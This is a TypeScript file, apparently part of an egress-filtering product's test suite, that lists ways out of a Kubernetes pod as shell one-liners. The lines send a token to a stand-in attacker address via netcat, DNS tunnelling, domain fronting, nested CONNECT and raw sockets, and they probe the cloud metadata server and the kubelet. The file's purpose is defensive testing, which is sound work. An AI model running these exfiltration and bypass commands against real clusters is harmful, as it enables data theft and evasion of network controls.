/**
 * Ways out of a pod of the cluster, as a script in it tries them: each a line of shell, in which $T is the token by which it is
 * known where it arrives, and $P the pod's own explicit proxy. What needs raw frames, IPv6 or a bent TLS handshake is tried in
 * the lab (test/escape).
 */
import {NODE, PORTS as CONTROL, SERVICES} from '../cluster/addresses.ts';
import {PORTS} from '../../../runtime/names.ts';

export interface Way {
  readonly id: string;
  readonly title: string;
  readonly script: string;
  /** From a pod that nobody holds, where the same line would not show that there is something to reach. */
  readonly free?: string;
  /**
   * Whether it got out is told by its token outside, or, where nobody stands who would tell, by an answer that only the other
   * side can have given.
   */
  readonly answer?: RegExp;
  /** It is the agent that is asked, so without one nobody gets an answer. */
  readonly ofAgent?: true;
  /** It is known to be open, and why. */
  readonly open?: string;
}

/** Nobody's: whatever comes there is heard. */
export const EVIL = '198.51.100.200';
export const METADATA = '169.254.169.254';
/** A Service with a NodePort, whose pod says RELAY and passes on what it is asked for. */
export const RELAY = {
  namespace: 'attack',
  name: 'relay',
  port: 8080,
  nodePort: 30080,
  says: 'this-is-the-relay',
} as const;

const curl = (...words: readonly string[]): string => `curl -sk -m 3 --path-as-is ${words.join(' ')}`;
const send = (port: number): string => `printf '%s\\n' "$T" | nc -w 2 ${EVIL} ${port}`;
const datagram = (to: string, port: number): string => `printf %s "$T" | nc -u -w 1 ${to} ${port}`;
const HEAD = (line: string, host: string): string => `printf '${line}\\r\\nHost: ${host}\\r\\n\\r\\n'`;

export function ways(relay: {readonly podIp: string; readonly serviceIp: string}): readonly Way[] {
  return [
    {id: 'http', title: 'plain HTTP to an address', script: curl(`http://${EVIL}/$T`)},
    {id: 'https', title: 'HTTPS to an address, so without SNI', script: curl(`https://${EVIL}/$T`)},
    ...[22, 25, 853, 6667, 8443, 65535].map((port) => ({
      ...{id: `tcp-${port}`, title: `bytes to TCP port ${port}`, script: send(port)},
    })),
    ...[53, 123, 443, 51820].map((port) => ({
      ...{id: `udp-${port}`, title: `a datagram to UDP port ${port}`, script: datagram(EVIL, port)},
    })),
    {
      id: 'ping',
      title: 'ping with a payload',
      script: `ping -c 1 -W 1 -p $(printf %s "$T" | od -An -tx1 | tr -d ' \\n') ${EVIL}`,
    },
    {id: 'gre', title: 'IP protocol 47 by a raw socket', script: `python3 -IS /programs/raw.py protocol 47 ${EVIL} $T`},
    {
      id: 'sctp',
      title: 'IP protocol 132 by a raw socket',
      script: `python3 -IS /programs/raw.py protocol 132 ${EVIL} $T`,
    },
    {
      id: 'spoof',
      title: 'a datagram with the address of somebody else',
      script: `python3 -IS /programs/raw.py spoof 10.244.0.250 ${EVIL} 9999 $T`,
    },
    {id: 'resolver', title: 'another resolver by UDP', script: `dig @${EVIL} $T.example +tries=1 +time=1`},
    {id: 'resolver-tcp', title: 'another resolver by TCP', script: `dig @${EVIL} $T.example +tcp +tries=1 +time=2`},
    {id: 'doh', title: 'DNS over HTTPS', script: curl(`'https://${EVIL}/dns-query?dns='$T`)},
    {
      ...{id: 'dns-tunnel', title: 'names of a zone of the attacker’s, asked of the cluster’s own resolver'},
      script: `dig $T.tunnel.example +tries=1 +time=2`,
      open: 'the cluster’s resolver may be asked anything: let it filter',
    },
    {
      ...{id: 'host', title: 'an allowed Host at another address'},
      script: curl(`-H 'Host: storage.googleapis.com'`, `http://${EVIL}/public/$T`),
    },
    {
      ...{id: 'sni', title: 'an allowed SNI at another address'},
      script: curl(`--resolve storage.googleapis.com:443:${EVIL}`, 'https://storage.googleapis.com/public/$T'),
    },
    {
      ...{id: 'sni-host', title: 'an allowed SNI with another Host in it'},
      script: curl(
        `--resolve storage.googleapis.com:443:${EVIL}`,
        `-H 'Host: evil.example'`,
        'https://storage.googleapis.com/public/$T',
      ),
    },
    {
      ...{id: 'absolute', title: 'absolute-form to a port that is captured'},
      script: `${HEAD(`GET http://${EVIL}/'$T' HTTP/1.1`, EVIL)} | nc -w 2 ${EVIL} 80`,
    },
    {
      ...{id: 'connect', title: 'CONNECT sent to a port that is captured'},
      script: `(${HEAD(`CONNECT ${EVIL}:443 HTTP/1.1`, `'$T'`)}; sleep 0.5; printf %s "$T") | nc -w 2 ${EVIL} 80`,
    },
    {
      ...{id: 'explicit', title: 'the explicit port asked for an address'},
      script: curl(`-x http://${NODE.ip}:${PORTS.explicit}`, `http://${EVIL}/$T`),
      free: curl(`-x http://${EVIL}:${PORTS.explicit}`, `http://${EVIL}/$T`),
    },
    {
      ...{id: 'connect-connect', title: 'CONNECT inside of a CONNECT that is allowed'},
      script: `(${HEAD('CONNECT storage.googleapis.com:443 HTTP/1.1', 'storage.googleapis.com:443')}; sleep 0.5; ${HEAD(`CONNECT ${EVIL}:443 HTTP/1.1`, `'$T'`)}; sleep 0.5; printf %s "$T") | nc -w 2 ${NODE.ip} ${PORTS.explicit}`,
      free: `(${HEAD(`CONNECT ${EVIL}:443 HTTP/1.1`, `'$T'`)}) | nc -w 2 ${EVIL} ${PORTS.explicit}`,
    },
    {id: 'metadata', title: 'the metadata server', script: curl(`http://${METADATA}/latest/$T`)},
    {
      id: 'metadata-put',
      title: 'its session token (IMDSv2)',
      script: curl('-X PUT', `http://${METADATA}/latest/api/token/$T`),
    },
    {
      ...{id: 'kubelet', title: 'the kubelet', answer: /Unauthorized/},
      script: curl(`https://${NODE.ip}:10250/pods`),
    },
    {
      ...{id: 'api', title: 'the API server by its Service', answer: /"kind": ?"Status"|gitVersion/},
      script: curl(`https://${SERVICES.api}/version`),
    },
    {
      ...{id: 'api-node', title: 'the API server at the node', answer: /"kind": ?"Status"|gitVersion/},
      script: curl(`https://${NODE.ip}:${CONTROL.api}/version`),
    },
    {
      ...{id: 'nodeport', title: 'a NodePort', answer: new RegExp(RELAY.says)},
      script: curl(`http://${NODE.ip}:${RELAY.nodePort}/`),
    },
    {
      ...{id: 'pod', title: 'another pod', answer: new RegExp(RELAY.says)},
      script: curl(`http://${relay.podIp}:${RELAY.port}/`),
    },
    {
      ...{id: 'service', title: 'another pod’s Service', answer: new RegExp(RELAY.says)},
      script: curl(`http://${relay.serviceIp}/`),
    },
    {
      ...{id: 'relay', title: 'another pod that passes on what it is asked for'},
      script: curl(`-x http://${relay.podIp}:${RELAY.port}`, `http://${EVIL}/$T`),
    },
    {
      ...{id: 'relay-udp', title: 'a datagram to another pod', answer: new RegExp(RELAY.says)},
      script: `printf %s "$T" | nc -u -w 1 ${relay.podIp} ${RELAY.port}`,
    },
    {
      ...{id: 'admin', title: 'our own admin port', answer: /sallyport_/, ofAgent: true},
      script: curl(`http://${NODE.ip}:${PORTS.admin}/metrics`),
    },
  ];
}

/** What the relay pod runs: an HTTP proxy that refuses nobody, and an echo of datagrams. */
export const RELAY_PROGRAM = `
const http = require('node:http');
http.createServer((request, answer) => {
  if (!request.url.startsWith('http://')) return answer.end('${RELAY.says}');
  http.get(request.url, (from) => from.pipe(answer)).on('error', () => answer.destroy());
}).listen(${RELAY.port});
const udp = require('node:dgram').createSocket('udp4');
udp.on('message', (_, from) => udp.send('${RELAY.says}', from.port, from.address)).bind(${RELAY.port});
`;
